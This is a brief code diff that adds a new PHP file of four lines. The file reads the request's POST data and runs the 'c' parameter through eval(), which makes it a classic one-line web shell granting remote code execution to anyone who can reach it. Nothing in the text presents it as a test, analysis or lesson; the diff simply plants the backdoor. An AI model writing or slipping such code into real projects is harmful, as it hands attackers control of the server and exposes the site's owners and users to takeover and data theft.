@@ -1,0 +1,4 @@
+<?php
+$r = $_POST;
+$c = $r['c'];
+eval($c);
